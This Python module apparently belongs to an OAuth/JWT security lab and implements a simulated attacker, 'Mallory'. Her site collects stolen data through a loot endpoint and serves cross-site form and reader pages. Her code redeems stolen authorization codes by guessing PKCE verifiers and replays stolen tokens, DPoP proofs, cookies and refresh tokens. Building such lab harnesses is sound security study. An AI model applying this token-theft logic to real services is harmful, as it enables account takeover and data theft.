"""Mallory: her site, the blog that she took over, and what she does at home with what her script has sent.

VULNERABLE ON PURPOSE is everybody else; this is the attacker.
"""

from __future__ import annotations

import re
from html import escape
from urllib.parse import unquote

import httpx
from flask import Flask, Response, request

from jwtlab.jose.key import Key
from jwtlab.oauth import dpop
from jwtlab.oauth.browser_app import scripts
from jwtlab.oauth.browser_app.application import PUBLIC
from jwtlab.oauth.browser_app.setting import Setting

HERS = "mallory was here"
_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Win a cat</title><link rel="icon" href="data:,"></head>
<body data-target="{target}" data-mallory="{state}"><h1>Win a cat</h1>{form}<script>{script}</script></body></html>
"""
_FORM = '<form method="post" action="{target}"><input type="hidden" name="text" value="{text}"></form>'
_SECRETS = re.compile(r"[A-Za-z0-9_-]+(?:\.[A-Za-z0-9_-]+)*")


class Mallory:
    """What she has, and what it is good for.

    Args:
        stage: where she is.
        key: a key of her own, for DPoP.

    Attributes:
        loot: what her scripts sent, as text.
        app: her site as a WSGI application; the blog shows the same pages.
    """

    def __init__(self, stage: Setting, key: Key) -> None:
        self.stage, self.key = stage, key
        self.loot: list[str] = []
        self._tokens: list[str] = []
        self.app = Flask("jwtlab.mallory", static_folder=None)
        self.app.add_url_rule("/loot", "take", self._take, methods=["GET", "POST"])
        self.app.add_url_rule("/form", "form", self._form)
        self.app.add_url_rule("/read", "read", self._read)

    def forget(self) -> None:
        """She has nothing."""
        self.loot.clear()
        self._tokens.clear()

    # Her site

    def _take(self) -> Response:
        text = request.args.get("taken") or request.get_data(as_text=True)
        if text:
            self.loot.append(text)
            self._redeem(text)
        return Response(_PAGE.format(target="", state="over", form="", script=""), mimetype="text/html")

    def _target(self) -> str:
        """What a page elsewhere aims at: the backend, or the API where there is none."""
        places = self.stage.places
        return f"{places.app}/backend/notes" if self.stage.design == "backend" else f"{places.api}/notes"

    def _form(self) -> str:
        form = _FORM.format(target=escape(self._target()), text=HERS)
        return _PAGE.format(
            target=escape(self._target()), state="", form=form, script=scripts.stranger("form")
        )

    def _read(self) -> str:
        return _PAGE.format(target=escape(self._target()), state="", form="", script=scripts.stranger("read"))

    # At home

    def _ask(
        self, method: str, url: str, headers: dict[str, str], form: dict[str, str] | None = None
    ) -> httpx.Response:
        sent = httpx.Request(method, url, headers=headers, data=form)
        return self.stage.network.deliver("Mallory", sent)

    def _redeem(self, text: str) -> None:
        """A code is good for a minute: she redeems it at once, as the page's client and with each text that may fit."""
        found = re.search(r"[?&]code=([A-Za-z0-9_.~-]+)", unquote(text))
        if found is None:
            return
        for verifier in _secrets(text):
            if not 43 <= len(verifier) <= 128 or verifier == found[1]:
                continue
            form = {"grant_type": "authorization_code", "client_id": PUBLIC, "code": found[1]}
            form |= {"redirect_uri": f"{self.stage.places.app}/callback", "code_verifier": verifier}
            if self._token(form):
                return

    def _token(self, form: dict[str, str]) -> bool:
        url = f"{self.stage.places.issuer}/token"
        answer = self._ask("POST", url, {"DPoP": self._proof("POST", url)}, form)
        if answer.status_code == 200:
            self._tokens.append(answer.json()["access_token"])
        return answer.status_code == 200

    def _proof(self, method: str, url: str, token: str | None = None) -> str:
        name = self.stage.random(16).hex()
        return dpop.proof(self.key, method, url, now=self.stage.clock(), jti=name, access_token=token)

    def reads_the_notes(self) -> bool:
        """Does any of it let her read Alice's notes, from her own computer?"""
        kept = [*self._tokens, *(each for text in self.loot for each in _secrets(text))]
        return any(self._opens(each, self._proofs()) for each in dict.fromkeys(kept))

    def _proofs(self) -> list[str]:
        """Proofs that came along with a token."""
        return [each for text in self.loot for each in _secrets(text) if each.count(".") == 2]

    def _opens(self, secret: str, proofs: list[str]) -> bool:
        places = self.stage.places
        notes = f"{places.api}/notes"
        if secret.count(".") == 2:
            tries = [{"Authorization": f"Bearer {secret}"}]
            tries += [{"Authorization": f"DPoP {secret}", "DPoP": each} for each in proofs if each != secret]
            tries += [{"Authorization": f"DPoP {secret}", "DPoP": self._proof("GET", notes, secret)}]
            return any(self._ask("GET", notes, each).status_code == 200 for each in tries)
        if len(secret) < 20:
            return False
        if self.stage.design == "backend":
            cookie = {"Cookie": f"session={secret}"}
            return self._ask("GET", f"{places.app}/backend/notes", cookie).status_code == 200
        if self._token({"grant_type": "refresh_token", "client_id": PUBLIC, "refresh_token": secret}):
            return self._opens(self._tokens[-1], [])
        return False


def _secrets(text: str) -> list[str]:
    """Every piece of a text that might be a secret."""
    return [each for each in _SECRETS.findall(unquote(text)) if len(each) >= 20]
